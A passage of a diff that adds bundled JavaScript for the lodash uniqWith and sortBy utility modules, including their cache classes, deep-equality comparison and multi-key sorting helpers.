+    return object == null ? void 0 : object[key];
+  }
+  function isHostObject(value) {
+    var result = false;
+    if (value != null && typeof value.toString != "function") {
+      try {
+        result = !!(value + "");
+      } catch (e) {
+      }
+    }
+    return result;
+  }
+  function setToArray(set) {
+    var index = -1, result = Array(set.size);
+    set.forEach(function(value) {
+      result[++index] = value;
+    });
+    return result;
+  }
+  var arrayProto = Array.prototype, funcProto = Function.prototype, objectProto = Object.prototype;
+  var coreJsData = root["__core-js_shared__"];
+  var maskSrcKey = (function() {
+    var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || "");
+    return uid ? "Symbol(src)_1." + uid : "";
+  })();
+  var funcToString = funcProto.toString;
+  var hasOwnProperty = objectProto.hasOwnProperty;
+  var objectToString = objectProto.toString;
+  var reIsNative = RegExp(
+    "^" + funcToString.call(hasOwnProperty).replace(reRegExpChar, "\\$&").replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, "$1.*?") + "$"
+  );
+  var splice = arrayProto.splice;
+  var Map2 = getNative(root, "Map"), Set2 = getNative(root, "Set"), nativeCreate = getNative(Object, "create");
+  function Hash(entries) {
+    var index = -1, length = entries ? entries.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry = entries[index];
+      this.set(entry[0], entry[1]);
+    }
+  }
+  function hashClear() {
+    this.__data__ = nativeCreate ? nativeCreate(null) : {};
+  }
+  function hashDelete(key) {
+    return this.has(key) && delete this.__data__[key];
+  }
+  function hashGet(key) {
+    var data = this.__data__;
+    if (nativeCreate) {
+      var result = data[key];
+      return result === HASH_UNDEFINED ? void 0 : result;
+    }
+    return hasOwnProperty.call(data, key) ? data[key] : void 0;
+  }
+  function hashHas(key) {
+    var data = this.__data__;
+    return nativeCreate ? data[key] !== void 0 : hasOwnProperty.call(data, key);
+  }
+  function hashSet(key, value) {
+    var data = this.__data__;
+    data[key] = nativeCreate && value === void 0 ? HASH_UNDEFINED : value;
+    return this;
+  }
+  Hash.prototype.clear = hashClear;
+  Hash.prototype["delete"] = hashDelete;
+  Hash.prototype.get = hashGet;
+  Hash.prototype.has = hashHas;
+  Hash.prototype.set = hashSet;
+  function ListCache(entries) {
+    var index = -1, length = entries ? entries.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry = entries[index];
+      this.set(entry[0], entry[1]);
+    }
+  }
+  function listCacheClear() {
+    this.__data__ = [];
+  }
+  function listCacheDelete(key) {
+    var data = this.__data__, index = assocIndexOf(data, key);
+    if (index < 0) {
+      return false;
+    }
+    var lastIndex = data.length - 1;
+    if (index == lastIndex) {
+      data.pop();
+    } else {
+      splice.call(data, index, 1);
+    }
+    return true;
+  }
+  function listCacheGet(key) {
+    var data = this.__data__, index = assocIndexOf(data, key);
+    return index < 0 ? void 0 : data[index][1];
+  }
+  function listCacheHas(key) {
+    return assocIndexOf(this.__data__, key) > -1;
+  }
+  function listCacheSet(key, value) {
+    var data = this.__data__, index = assocIndexOf(data, key);
+    if (index < 0) {
+      data.push([key, value]);
+    } else {
+      data[index][1] = value;
+    }
+    return this;
+  }
+  ListCache.prototype.clear = listCacheClear;
+  ListCache.prototype["delete"] = listCacheDelete;
+  ListCache.prototype.get = listCacheGet;
+  ListCache.prototype.has = listCacheHas;
+  ListCache.prototype.set = listCacheSet;
+  function MapCache(entries) {
+    var index = -1, length = entries ? entries.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry = entries[index];
+      this.set(entry[0], entry[1]);
+    }
+  }
+  function mapCacheClear() {
+    this.__data__ = {
+      "hash": new Hash(),
+      "map": new (Map2 || ListCache)(),
+      "string": new Hash()
+    };
+  }
+  function mapCacheDelete(key) {
+    return getMapData(this, key)["delete"](key);
+  }
+  function mapCacheGet(key) {
+    return getMapData(this, key).get(key);
+  }
+  function mapCacheHas(key) {
+    return getMapData(this, key).has(key);
+  }
+  function mapCacheSet(key, value) {
+    getMapData(this, key).set(key, value);
+    return this;
+  }
+  MapCache.prototype.clear = mapCacheClear;
+  MapCache.prototype["delete"] = mapCacheDelete;
+  MapCache.prototype.get = mapCacheGet;
+  MapCache.prototype.has = mapCacheHas;
+  MapCache.prototype.set = mapCacheSet;
+  function SetCache(values) {
+    var index = -1, length = values ? values.length : 0;
+    this.__data__ = new MapCache();
+    while (++index < length) {
+      this.add(values[index]);
+    }
+  }
+  function setCacheAdd(value) {
+    this.__data__.set(value, HASH_UNDEFINED);
+    return this;
+  }
+  function setCacheHas(value) {
+    return this.__data__.has(value);
+  }
+  SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+  SetCache.prototype.has = setCacheHas;
+  function assocIndexOf(array, key) {
+    var length = array.length;
+    while (length--) {
+      if (eq(array[length][0], key)) {
+        return length;
+      }
+    }
+    return -1;
+  }
+  function baseIsNative(value) {
+    if (!isObject(value) || isMasked(value)) {
+      return false;
+    }
+    var pattern = isFunction(value) || isHostObject(value) ? reIsNative : reIsHostCtor;
+    return pattern.test(toSource(value));
+  }
+  function baseUniq(array, iteratee, comparator) {
+    var index = -1, includes = arrayIncludes, length = array.length, isCommon = true, result = [], seen = result;
+    if (comparator) {
+      isCommon = false;
+      includes = arrayIncludesWith;
+    } else if (length >= LARGE_ARRAY_SIZE) {
+      var set = createSet(array);
+      if (set) {
+        return setToArray(set);
+      }
+      isCommon = false;
+      includes = cacheHas;
+      seen = new SetCache();
+    } else {
+      seen = result;
+    }
+    outer:
+      while (++index < length) {
+        var value = array[index], computed = value;
+        value = comparator || value !== 0 ? value : 0;
+        if (isCommon && computed === computed) {
+          var seenIndex = seen.length;
+          while (seenIndex--) {
+            if (seen[seenIndex] === computed) {
+              continue outer;
+            }
+          }
+          result.push(value);
+        } else if (!includes(seen, computed, comparator)) {
+          if (seen !== result) {
+            seen.push(computed);
+          }
+          result.push(value);
+        }
+      }
+    return result;
+  }
+  var createSet = !(Set2 && 1 / setToArray(new Set2([, -0]))[1] == INFINITY) ? noop : function(values) {
+    return new Set2(values);
+  };
+  function getMapData(map, key) {
+    var data = map.__data__;
+    return isKeyable(key) ? data[typeof key == "string" ? "string" : "hash"] : data.map;
+  }
+  function getNative(object, key) {
+    var value = getValue2(object, key);
+    return baseIsNative(value) ? value : void 0;
+  }
+  function isKeyable(value) {
+    var type = typeof value;
+    return type == "string" || type == "number" || type == "symbol" || type == "boolean" ? value !== "__proto__" : value === null;
+  }
+  function isMasked(func2) {
+    return !!maskSrcKey && maskSrcKey in func2;
+  }
+  function toSource(func2) {
+    if (func2 != null) {
+      try {
+        return funcToString.call(func2);
+      } catch (e) {
+      }
+      try {
+        return func2 + "";
+      } catch (e) {
+      }
+    }
+    return "";
+  }
+  function uniqWith(array, comparator) {
+    return array && array.length ? baseUniq(array, void 0, comparator) : [];
+  }
+  function eq(value, other) {
+    return value === other || value !== value && other !== other;
+  }
+  function isFunction(value) {
+    var tag = isObject(value) ? objectToString.call(value) : "";
+    return tag == funcTag || tag == genTag;
+  }
+  function isObject(value) {
+    var type = typeof value;
+    return !!value && (type == "object" || type == "function");
+  }
+  function noop() {
+  }
+  lodash_uniqwith = uniqWith;
+  return lodash_uniqwith;
+}
+var lodash_sortby = { exports: {} };
+lodash_sortby.exports;
+var hasRequiredLodash_sortby;
+function requireLodash_sortby() {
+  if (hasRequiredLodash_sortby) return lodash_sortby.exports;
+  hasRequiredLodash_sortby = 1;
+  (function(module2, exports$1) {
+    var LARGE_ARRAY_SIZE = 200;
+    var FUNC_ERROR_TEXT = "Expected a function";
+    var HASH_UNDEFINED = "__lodash_hash_undefined__";
+    var UNORDERED_COMPARE_FLAG = 1, PARTIAL_COMPARE_FLAG = 2;
+    var MAX_SAFE_INTEGER = 9007199254740991;
+    var argsTag = "[object Arguments]", arrayTag = "[object Array]", boolTag = "[object Boolean]", dateTag = "[object Date]", errorTag = "[object Error]", funcTag = "[object Function]", genTag = "[object GeneratorFunction]", mapTag = "[object Map]", numberTag = "[object Number]", objectTag = "[object Object]", promiseTag = "[object Promise]", regexpTag = "[object RegExp]", setTag = "[object Set]", stringTag = "[object String]", symbolTag = "[object Symbol]", weakMapTag = "[object WeakMap]";
+    var arrayBufferTag = "[object ArrayBuffer]", dataViewTag = "[object DataView]", float32Tag = "[object Float32Array]", float64Tag = "[object Float64Array]", int8Tag = "[object Int8Array]", int16Tag = "[object Int16Array]", int32Tag = "[object Int32Array]", uint8Tag = "[object Uint8Array]", uint8ClampedTag = "[object Uint8ClampedArray]", uint16Tag = "[object Uint16Array]", uint32Tag = "[object Uint32Array]";
+    var reIsDeepProp = /\.|\[(?:[^[\]]*|(["'])(?:(?!\1)[^\\]|\\.)*?\1)\]/, reIsPlainProp = /^\w*$/, reLeadingDot = /^\./, rePropName = /[^.[\]]+|\[(?:(-?\d+(?:\.\d+)?)|(["'])((?:(?!\2)[^\\]|\\.)*?)\2)\]|(?=(?:\.|\[\])(?:\.|\[\]|$))/g;
+    var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+    var reEscapeChar = /\\(\\)?/g;
+    var reIsHostCtor = /^\[object .+?Constructor\]$/;
+    var reIsUint = /^(?:0|[1-9]\d*)$/;
+    var typedArrayTags = {};
+    typedArrayTags[float32Tag] = typedArrayTags[float64Tag] = typedArrayTags[int8Tag] = typedArrayTags[int16Tag] = typedArrayTags[int32Tag] = typedArrayTags[uint8Tag] = typedArrayTags[uint8ClampedTag] = typedArrayTags[uint16Tag] = typedArrayTags[uint32Tag] = true;
+    typedArrayTags[argsTag] = typedArrayTags[arrayTag] = typedArrayTags[arrayBufferTag] = typedArrayTags[boolTag] = typedArrayTags[dataViewTag] = typedArrayTags[dateTag] = typedArrayTags[errorTag] = typedArrayTags[funcTag] = typedArrayTags[mapTag] = typedArrayTags[numberTag] = typedArrayTags[objectTag] = typedArrayTags[regexpTag] = typedArrayTags[setTag] = typedArrayTags[stringTag] = typedArrayTags[weakMapTag] = false;
+    var freeGlobal = typeof commonjsGlobal == "object" && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+    var freeSelf = typeof self == "object" && self && self.Object === Object && self;
+    var root = freeGlobal || freeSelf || Function("return this")();
+    var freeExports = exports$1 && !exports$1.nodeType && exports$1;
+    var freeModule = freeExports && true && module2 && !module2.nodeType && module2;
+    var moduleExports2 = freeModule && freeModule.exports === freeExports;
+    var freeProcess = moduleExports2 && freeGlobal.process;
+    var nodeUtil = (function() {
+      try {
+        return freeProcess && freeProcess.binding("util");
+      } catch (e) {
+      }
+    })();
+    var nodeIsTypedArray = nodeUtil && nodeUtil.isTypedArray;
+    function apply(func2, thisArg, args2) {
+      switch (args2.length) {
+        case 0:
+          return func2.call(thisArg);
+        case 1:
+          return func2.call(thisArg, args2[0]);
+        case 2:
+          return func2.call(thisArg, args2[0], args2[1]);
+        case 3:
+          return func2.call(thisArg, args2[0], args2[1], args2[2]);
+      }
+      return func2.apply(thisArg, args2);
+    }
+    function arrayMap(array, iteratee) {
+      var index = -1, length = array ? array.length : 0, result = Array(length);
+      while (++index < length) {
+        result[index] = iteratee(array[index], index, array);
+      }
+      return result;
+    }
+    function arrayPush(array, values) {
+      var index = -1, length = values.length, offset = array.length;
+      while (++index < length) {
+        array[offset + index] = values[index];
+      }
+      return array;
+    }
+    function arraySome(array, predicate) {
+      var index = -1, length = array ? array.length : 0;
+      while (++index < length) {
+        if (predicate(array[index], index, array)) {
+          return true;
+        }
+      }
+      return false;
+    }
+    function baseProperty(key) {
+      return function(object) {
+        return object == null ? void 0 : object[key];
+      };
+    }
+    function baseSortBy(array, comparer) {
+      var length = array.length;
+      array.sort(comparer);
+      while (length--) {
+        array[length] = array[length].value;
+      }
+      return array;
+    }
+    function baseTimes(n, iteratee) {
+      var index = -1, result = Array(n);
+      while (++index < n) {
+        result[index] = iteratee(index);
+      }
+      return result;
+    }
+    function baseUnary(func2) {
+      return function(value) {
+        return func2(value);
+      };
+    }
+    function getValue2(object, key) {
+      return object == null ? void 0 : object[key];
+    }
+    function isHostObject(value) {
+      var result = false;
+      if (value != null && typeof value.toString != "function") {
+        try {
+          result = !!(value + "");
+        } catch (e) {
+        }
+      }
+      return result;
+    }
+    function mapToArray(map) {
+      var index = -1, result = Array(map.size);
+      map.forEach(function(value, key) {
+        result[++index] = [key, value];
+      });
+      return result;
+    }
+    function overArg(func2, transform) {
+      return function(arg2) {
+        return func2(transform(arg2));
+      };
+    }
+    function setToArray(set) {
+      var index = -1, result = Array(set.size);
+      set.forEach(function(value) {
+        result[++index] = value;
+      });
+      return result;
+    }
+    var arrayProto = Array.prototype, funcProto = Function.prototype, objectProto = Object.prototype;
+    var coreJsData = root["__core-js_shared__"];
+    var maskSrcKey = (function() {
+      var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || "");
+      return uid ? "Symbol(src)_1." + uid : "";
+    })();
+    var funcToString = funcProto.toString;
+    var hasOwnProperty = objectProto.hasOwnProperty;
+    var objectToString = objectProto.toString;
+    var reIsNative = RegExp(
+      "^" + funcToString.call(hasOwnProperty).replace(reRegExpChar, "\\$&").replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, "$1.*?") + "$"
+    );
+    var Symbol2 = root.Symbol, Uint8Array2 = root.Uint8Array, propertyIsEnumerable = objectProto.propertyIsEnumerable, splice = arrayProto.splice, spreadableSymbol = Symbol2 ? Symbol2.isConcatSpreadable : void 0;
+    var nativeKeys = overArg(Object.keys, Object), nativeMax = Math.max;
+    var DataView2 = getNative(root, "DataView"), Map2 = getNative(root, "Map"), Promise2 = getNative(root, "Promise"), Set2 = getNative(root, "Set"), WeakMap2 = getNative(root, "WeakMap"), nativeCreate = getNative(Object, "create");
+    var dataViewCtorString = toSource(DataView2), mapCtorString = toSource(Map2), promiseCtorString = toSource(Promise2), setCtorString = toSource(Set2), weakMapCtorString = toSource(WeakMap2);
+    var symbolProto = Symbol2 ? Symbol2.prototype : void 0, symbolValueOf = symbolProto ? symbolProto.valueOf : void 0, symbolToString = symbolProto ? symbolProto.toString : void 0;
+    function Hash(entries) {
+      var index = -1, length = entries ? entries.length : 0;
+      this.clear();
+      while (++index < length) {
+        var entry = entries[index];
+        this.set(entry[0], entry[1]);
+      }
+    }
+    function hashClear() {
+      this.__data__ = nativeCreate ? nativeCreate(null) : {};
+    }
+    function hashDelete(key) {
+      return this.has(key) && delete this.__data__[key];
+    }
+    function hashGet(key) {
+      var data = this.__data__;
+      if (nativeCreate) {
+        var result = data[key];
+        return result === HASH_UNDEFINED ? void 0 : result;
+      }
+      return hasOwnProperty.call(data, key) ? data[key] : void 0;
+    }
+    function hashHas(key) {
+      var data = this.__data__;
+      return nativeCreate ? data[key] !== void 0 : hasOwnProperty.call(data, key);
+    }
+    function hashSet(key, value) {
+      var data = this.__data__;
+      data[key] = nativeCreate && value === void 0 ? HASH_UNDEFINED : value;
+      return this;
+    }
+    Hash.prototype.clear = hashClear;
+    Hash.prototype["delete"] = hashDelete;
+    Hash.prototype.get = hashGet;
+    Hash.prototype.has = hashHas;
+    Hash.prototype.set = hashSet;
+    function ListCache(entries) {
+      var index = -1, length = entries ? entries.length : 0;
+      this.clear();
+      while (++index < length) {
+        var entry = entries[index];
+        this.set(entry[0], entry[1]);
+      }
+    }
+    function listCacheClear() {
+      this.__data__ = [];
+    }
+    function listCacheDelete(key) {
+      var data = this.__data__, index = assocIndexOf(data, key);
+      if (index < 0) {
+        return false;
+      }
+      var lastIndex = data.length - 1;
+      if (index == lastIndex) {
+        data.pop();
+      } else {
+        splice.call(data, index, 1);
+      }
+      return true;
+    }
+    function listCacheGet(key) {
+      var data = this.__data__, index = assocIndexOf(data, key);
+      return index < 0 ? void 0 : data[index][1];
+    }
+    function listCacheHas(key) {
+      return assocIndexOf(this.__data__, key) > -1;
+    }
+    function listCacheSet(key, value) {
+      var data = this.__data__, index = assocIndexOf(data, key);
+      if (index < 0) {
+        data.push([key, value]);
+      } else {
+        data[index][1] = value;
+      }
+      return this;
+    }
+    ListCache.prototype.clear = listCacheClear;
+    ListCache.prototype["delete"] = listCacheDelete;
+    ListCache.prototype.get = listCacheGet;
+    ListCache.prototype.has = listCacheHas;
+    ListCache.prototype.set = listCacheSet;
+    function MapCache(entries) {
+      var index = -1, length = entries ? entries.length : 0;
+      this.clear();
+      while (++index < length) {
+        var entry = entries[index];
+        this.set(entry[0], entry[1]);
+      }
+    }
+    function mapCacheClear() {
+      this.__data__ = {
+        "hash": new Hash(),
+        "map": new (Map2 || ListCache)(),
+        "string": new Hash()
+      };
+    }
+    function mapCacheDelete(key) {
+      return getMapData(this, key)["delete"](key);
+    }
+    function mapCacheGet(key) {
+      return getMapData(this, key).get(key);
+    }
+    function mapCacheHas(key) {
+      return getMapData(this, key).has(key);
+    }
+    function mapCacheSet(key, value) {
+      getMapData(this, key).set(key, value);
+      return this;
+    }
+    MapCache.prototype.clear = mapCacheClear;
+    MapCache.prototype["delete"] = mapCacheDelete;
+    MapCache.prototype.get = mapCacheGet;
+    MapCache.prototype.has = mapCacheHas;
+    MapCache.prototype.set = mapCacheSet;
+    function SetCache(values) {
+      var index = -1, length = values ? values.length : 0;
+      this.__data__ = new MapCache();
+      while (++index < length) {
+        this.add(values[index]);
+      }
+    }
+    function setCacheAdd(value) {
+      this.__data__.set(value, HASH_UNDEFINED);
+      return this;
+    }
+    function setCacheHas(value) {
+      return this.__data__.has(value);
+    }
+    SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+    SetCache.prototype.has = setCacheHas;
+    function Stack(entries) {
+      this.__data__ = new ListCache(entries);
+    }
+    function stackClear() {
+      this.__data__ = new ListCache();
+    }
+    function stackDelete(key) {
+      return this.__data__["delete"](key);
+    }
+    function stackGet(key) {
+      return this.__data__.get(key);
+    }
+    function stackHas(key) {
+      return this.__data__.has(key);
+    }
+    function stackSet(key, value) {
+      var cache = this.__data__;
+      if (cache instanceof ListCache) {
+        var pairs = cache.__data__;
+        if (!Map2 || pairs.length < LARGE_ARRAY_SIZE - 1) {
+          pairs.push([key, value]);
+          return this;
+        }
+        cache = this.__data__ = new MapCache(pairs);
+      }
+      cache.set(key, value);
+      return this;
+    }
+    Stack.prototype.clear = stackClear;
+    Stack.prototype["delete"] = stackDelete;
+    Stack.prototype.get = stackGet;
+    Stack.prototype.has = stackHas;
+    Stack.prototype.set = stackSet;
+    function arrayLikeKeys(value, inherited) {
+      var result = isArray(value) || isArguments(value) ? baseTimes(value.length, String) : [];
+      var length = result.length, skipIndexes = !!length;
+      for (var key in value) {
+        if (hasOwnProperty.call(value, key) && !(skipIndexes && (key == "length" || isIndex(key, length)))) {
+          result.push(key);
+        }
+      }
+      return result;
+    }
+    function assocIndexOf(array, key) {
+      var length = array.length;
+      while (length--) {
+        if (eq(array[length][0], key)) {
+          return length;
+        }
+      }
+      return -1;
+    }
+    var baseEach = createBaseEach(baseForOwn);
+    function baseFlatten(array, depth, predicate, isStrict, result) {
+      var index = -1, length = array.length;
+      predicate || (predicate = isFlattenable);
+      result || (result = []);
+      while (++index < length) {
+        var value = array[index];
+        if (predicate(value)) {
+          {
+            arrayPush(result, value);
+          }
+        } else {
+          result[result.length] = value;
+        }
+      }
+      return result;
+    }
+    var baseFor = createBaseFor();
+    function baseForOwn(object, iteratee) {
+      return object && baseFor(object, iteratee, keys);
+    }
+    function baseGet(object, path2) {
+      path2 = isKey(path2, object) ? [path2] : castPath(path2);
+      var index = 0, length = path2.length;
+      while (object != null && index < length) {
+        object = object[toKey(path2[index++])];
+      }
+      return index && index == length ? object : void 0;
+    }
+    function baseGetTag(value) {
+      return objectToString.call(value);
+    }
+    function baseHasIn(object, key) {
+      return object != null && key in Object(object);
+    }
+    function baseIsEqual(value, other, customizer, bitmask, stack) {
+      if (value === other) {
+        return true;
+      }
+      if (value == null || other == null || !isObject(value) && !isObjectLike(other)) {
+        return value !== value && other !== other;
+      }
+      return baseIsEqualDeep(value, other, baseIsEqual, customizer, bitmask, stack);
+    }
+    function baseIsEqualDeep(object, other, equalFunc, customizer, bitmask, stack) {
+      var objIsArr = isArray(object), othIsArr = isArray(other), objTag = arrayTag, othTag = arrayTag;
+      if (!objIsArr) {
+        objTag = getTag(object);
+        objTag = objTag == argsTag ? objectTag : objTag;
+      }
+      if (!othIsArr) {
+        othTag = getTag(other);
+        othTag = othTag == argsTag ? objectTag : othTag;
+      }
+      var objIsObj = objTag == objectTag && !isHostObject(object), othIsObj = othTag == objectTag && !isHostObject(other), isSameTag = objTag == othTag;
+      if (isSameTag && !objIsObj) {
+        stack || (stack = new Stack());
+        return objIsArr || isTypedArray(object) ? equalArrays(object, other, equalFunc, customizer, bitmask, stack) : equalByTag(object, other, objTag, equalFunc, customizer, bitmask, stack);
+      }
+      if (!(bitmask & PARTIAL_COMPARE_FLAG)) {
+        var objIsWrapped = objIsObj && hasOwnProperty.call(object, "__wrapped__"), othIsWrapped = othIsObj && hasOwnProperty.call(other, "__wrapped__");
+        if (objIsWrapped || othIsWrapped) {
+          var objUnwrapped = objIsWrapped ? object.value() : object, othUnwrapped = othIsWrapped ? other.value() : other;
+          stack || (stack = new Stack());
+          return equalFunc(objUnwrapped, othUnwrapped, customizer, bitmask, stack);
+        }
+      }
+      if (!isSameTag) {
+        return false;
+      }
+      stack || (stack = new Stack());
+      return equalObjects(object, other, equalFunc, customizer, bitmask, stack);
+    }
+    function baseIsMatch(object, source, matchData, customizer) {
+      var index = matchData.length, length = index;
+      if (object == null) {
+        return !length;
+      }
+      object = Object(object);
+      while (index--) {
+        var data = matchData[index];
+        if (data[2] ? data[1] !== object[data[0]] : !(data[0] in object)) {
+          return false;
+        }
+      }
+      while (++index < length) {
+        data = matchData[index];
+        var key = data[0], objValue = object[key], srcValue = data[1];
+        if (data[2]) {
+          if (objValue === void 0 && !(key in object)) {
+            return false;
+          }
+        } else {
+          var stack = new Stack();
+          var result;
+          if (!(result === void 0 ? baseIsEqual(srcValue, objValue, customizer, UNORDERED_COMPARE_FLAG | PARTIAL_COMPARE_FLAG, stack) : result)) {
+            return false;
+          }
+        }
+      }
+      return true;
+    }
+    function baseIsNative(value) {
+      if (!isObject(value) || isMasked(value)) {
+        return false;
+      }
+      var pattern = isFunction(value) || isHostObject(value) ? reIsNative : reIsHostCtor;
+      return pattern.test(toSource(value));
+    }
+    function baseIsTypedArray(value) {
+      return isObjectLike(value) && isLength(value.length) && !!typedArrayTags[objectToString.call(value)];
+    }
+    function baseIteratee(value) {
+      if (typeof value == "function") {
+        return value;
+      }
+      if (value == null) {
+        return identity;
+      }
+      if (typeof value == "object") {
+        return isArray(value) ? baseMatchesProperty(value[0], value[1]) : baseMatches(value);
+      }
+      return property(value);
+    }
+    function baseKeys(object) {
+      if (!isPrototype(object)) {
+        return nativeKeys(object);
+      }
+      var result = [];
+      for (var key in Object(object)) {
+        if (hasOwnProperty.call(object, key) && key != "constructor") {
+          result.push(key);
+        }
+      }
+      return result;
+    }
+    function baseMap(collection, iteratee) {
+      var index = -1, result = isArrayLike(collection) ? Array(collection.length) : [];
+      baseEach(collection, function(value, key, collection2) {
+        result[++index] = iteratee(value, key, collection2);
+      });
+      return result;
+    }
+    function baseMatches(source) {
+      var matchData = getMatchData(source);
+      if (matchData.length == 1 && matchData[0][2]) {
+        return matchesStrictComparable(matchData[0][0], matchData[0][1]);
+      }
+      return function(object) {
+        return object === source || baseIsMatch(object, source, matchData);
+      };
+    }
+    function baseMatchesProperty(path2, srcValue) {
+      if (isKey(path2) && isStrictComparable(srcValue)) {
+        return matchesStrictComparable(toKey(path2), srcValue);
+      }
+      return function(object) {
+        var objValue = get(object, path2);
+        return objValue === void 0 && objValue === srcValue ? hasIn(object, path2) : baseIsEqual(srcValue, objValue, void 0, UNORDERED_COMPARE_FLAG | PARTIAL_COMPARE_FLAG);
+      };
+    }
+    function baseOrderBy(collection, iteratees, orders) {
+      var index = -1;
+      iteratees = arrayMap(iteratees.length ? iteratees : [identity], baseUnary(baseIteratee));
+      var result = baseMap(collection, function(value, key, collection2) {
+        var criteria = arrayMap(iteratees, function(iteratee) {
+          return iteratee(value);
+        });
+        return { "criteria": criteria, "index": ++index, "value": value };
+      });
+      return baseSortBy(result, function(object, other) {
+        return compareMultiple(object, other, orders);
+      });
+    }
+    function basePropertyDeep(path2) {
+      return function(object) {
+        return baseGet(object, path2);
+      };
+    }
+    function baseRest(func2, start2) {
+      start2 = nativeMax(start2 === void 0 ? func2.length - 1 : start2, 0);
+      return function() {
+        var args2 = arguments, index = -1, length = nativeMax(args2.length - start2, 0), array = Array(length);
+        while (++index < length) {
+          array[index] = args2[start2 + index];
+        }
+        index = -1;
+        var otherArgs = Array(start2 + 1);
+        while (++index < start2) {
+          otherArgs[index] = args2[index];
+        }
+        otherArgs[start2] = array;
+        return apply(func2, this, otherArgs);
+      };
+    }
+    function baseToString(value) {
+      if (typeof value == "string") {
+        return value;
+      }
+      if (isSymbol(value)) {
+        return symbolToString ? symbolToString.call(value) : "";
+      }
+      var result = value + "";
+      return result == "0" && 1 / value == -Infinity ? "-0" : result;
+    }
+    function castPath(value) {
+      return isArray(value) ? value : stringToPath(value);
+    }
+    function compareAscending(value, other) {
+      if (value !== other) {
+        var valIsDefined = value !== void 0, valIsNull = value === null, valIsReflexive = value === value, valIsSymbol = isSymbol(value);
+        var othIsDefined = other !== void 0, othIsNull = other === null, othIsReflexive = other === other, othIsSymbol = isSymbol(other);
+        if (!othIsNull && !othIsSymbol && !valIsSymbol && value > other || valIsSymbol && othIsDefined && othIsReflexive && !othIsNull && !othIsSymbol || valIsNull && othIsDefined && othIsReflexive || !valIsDefined && othIsReflexive || !valIsReflexive) {
+          return 1;
+        }
+        if (!valIsNull && !valIsSymbol && !othIsSymbol && value < other || othIsSymbol && valIsDefined && valIsReflexive && !valIsNull && !valIsSymbol || othIsNull && valIsDefined && valIsReflexive || !othIsDefined && valIsReflexive || !othIsReflexive) {
+          return -1;
+        }
+      }
+      return 0;
+    }
+    function compareMultiple(object, other, orders) {
+      var index = -1, objCriteria = object.criteria, othCriteria = other.criteria, length = objCriteria.length, ordersLength = orders.length;
+      while (++index < length) {
+        var result = compareAscending(objCriteria[index], othCriteria[index]);
+        if (result) {
+          if (index >= ordersLength) {
+            return result;
+          }
+          var order = orders[index];
+          return result * (order == "desc" ? -1 : 1);
+        }
+      }
+      return object.index - other.index;
+    }
+    function createBaseEach(eachFunc, fromRight) {
+      return function(collection, iteratee) {
+        if (collection == null) {
+          return collection;
+        }
+        if (!isArrayLike(collection)) {
+          return eachFunc(collection, iteratee);
+        }
+        var length = collection.length, index = -1, iterable = Object(collection);
+        while (++index < length) {
+          if (iteratee(iterable[index], index, iterable) === false) {
+            break;
+          }
+        }
+        return collection;
+      };
+    }
+    function createBaseFor(fromRight) {
+      return function(object, iteratee, keysFunc) {
+        var index = -1, iterable = Object(object), props = keysFunc(object), length = props.length;
+        while (length--) {
+          var key = props[++index];
+          if (iteratee(iterable[key], key, iterable) === false) {
+            break;
+          }
+        }
+        return object;
+      };
+    }
+    function equalArrays(array, other, equalFunc, customizer, bitmask, stack) {
+      var isPartial = bitmask & PARTIAL_COMPARE_FLAG, arrLength = array.length, othLength = other.length;
+      if (arrLength != othLength && !(isPartial && othLength > arrLength)) {
+        return false;
+      }
+      var stacked = stack.get(array);
+      if (stacked && stack.get(other)) {
+        return stacked == other;
+      }
+      var index = -1, result = true, seen = bitmask & UNORDERED_COMPARE_FLAG ? new SetCache() : void 0;
+      stack.set(array, other);
+      stack.set(other, array);
+      while (++index < arrLength) {
+        var arrValue = array[index], othValue = other[index];
+        if (customizer) {
+          var compared = isPartial ? customizer(othValue, arrValue, index, other, array, stack) : customizer(arrValue, othValue, index, array, other, stack);
+        }
+        if (compared !== void 0) {
+          if (compared) {
+            continue;
+          }
+          result = false;
+          break;
+        }
+        if (seen) {
+          if (!arraySome(other, function(othValue2, othIndex) {
+            if (!seen.has(othIndex) && (arrValue === othValue2 || equalFunc(arrValue, othValue2, customizer, bitmask, stack))) {
+              return seen.add(othIndex);
+            }
+          })) {
+            result = false;
+            break;
+          }
+        } else if (!(arrValue === othValue || equalFunc(arrValue, othValue, customizer, bitmask, stack))) {
+          result = false;
+          break;
+        }
+      }
+      stack["delete"](array);
+      stack["delete"](other);
+      return result;
+    }
+    function equalByTag(object, other, tag, equalFunc, customizer, bitmask, stack) {
+      switch (tag) {
+        case dataViewTag:
+          if (object.byteLength != other.byteLength || object.byteOffset != other.byteOffset) {
+            return false;
+          }
+          object = object.buffer;
+          other = other.buffer;
+        case arrayBufferTag:
+          if (object.byteLength != other.byteLength || !equalFunc(new Uint8Array2(object), new Uint8Array2(other))) {
+            return false;
+          }
+          return true;
+        case boolTag:
+        case dateTag:
+        case numberTag:
+          return eq(+object, +other);
+        case errorTag:
+          return object.name == other.name && object.message == other.message;
+        case regexpTag:
+        case stringTag:
+          return object == other + "";
+        case mapTag:
+          var convert = mapToArray;
+        case setTag:
+          var isPartial = bitmask & PARTIAL_COMPARE_FLAG;
+          convert || (convert = setToArray);
+          if (object.size != other.size && !isPartial) {
+            return false;
+          }
+          var stacked = stack.get(object);
+          if (stacked) {
+            return stacked == other;
+          }
+          bitmask |= UNORDERED_COMPARE_FLAG;
+          stack.set(object, other);
+          var result = equalArrays(convert(object), convert(other), equalFunc, customizer, bitmask, stack);
+          stack["delete"](object);
+          return result;
+        case symbolTag:
+          if (symbolValueOf) {
+            return symbolValueOf.call(object) == symbolValueOf.call(other);
+          }
+      }
+      return false;
+    }
+    function equalObjects(object, other, equalFunc, customizer, bitmask, stack) {
+      var isPartial = bitmask & PARTIAL_COMPARE_FLAG, objProps = keys(object), objLength = objProps.length, othProps = keys(other), othLength = othProps.length;
+      if (objLength != othLength && !isPartial) {
+        return false;
